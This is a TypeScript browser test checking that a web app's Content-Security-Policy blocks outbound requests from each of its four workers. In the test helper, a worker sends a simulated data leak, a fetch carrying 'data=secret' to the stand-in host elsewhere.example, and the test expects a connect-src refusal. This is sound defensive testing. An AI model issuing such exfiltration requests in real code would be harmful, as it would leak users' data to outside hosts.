/**
 * @file The Content-Security-Policy reaches every worker (issue 16, item 1): a worker does not
 * inherit the page's `<meta>` policy, so without the header a worker could send data to any
 * host. From inside each of the app's four workers, a request to another host must be refused by
 * the policy (a `securitypolicyviolation` in the worker), not merely fail on this closed network.
 */
import type { Worker } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openApp, type AppSession } from './helpers/chromium';

const WORKERS = ['data', 'encoder', 'generation', 'training'] as const;

let app: AppSession;

beforeAll(async () => {
  app = await openApp('#/settings');
});

afterAll(async () => {
  await app?.close();
});

/** In a worker: what happens to a request to another host. */
function tryToLeak(worker: Worker): Promise<string> {
  return worker.evaluate(
    () =>
      new Promise<string>((resolve) => {
        self.addEventListener('securitypolicyviolation', (e) => resolve(`refused by ${e.effectiveDirective}`), {
          once: true,
        });
        fetch('https://elsewhere.example/leak?data=secret', { mode: 'no-cors' }).then(
          () => setTimeout(() => resolve('sent'), 500),
          () => setTimeout(() => resolve('failed without a policy violation'), 500),
        );
      }),
  );
}

describe('the policy in workers', () => {
  it.each(WORKERS)('refuses a request to another host from inside the %s worker', async (name) => {
    const { page } = app;
    const before = new Set(page.workers());
    const started = page.waitForEvent('worker', { predicate: (w) => !before.has(w), timeout: 30_000 });
    // Started by the same URL the app's own code uses (Vite's worker URL in the dev server).
    await page.evaluate(
      (n) =>
        void new Worker(new URL(`/src/lib/workers/${n}.worker.ts?worker_file&type=module`, location.href), {
          type: 'module',
          name: `csp-check-${n}`,
        }),
      name,
    );
    const worker = await started;
    expect(worker.url()).toContain(`${name}.worker.ts`);
    expect(await tryToLeak(worker)).toBe('refused by connect-src');
  });
});
